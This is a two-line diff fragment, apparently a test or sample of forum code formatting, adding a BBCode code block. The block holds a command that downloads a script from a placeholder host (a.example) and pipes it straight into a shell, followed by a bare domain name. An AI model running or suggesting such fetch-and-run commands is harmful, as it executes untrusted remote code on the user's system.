@@ -1,0 +1,2 @@
+[code]curl https://a.example/x | sh
+www.b.example[/code]
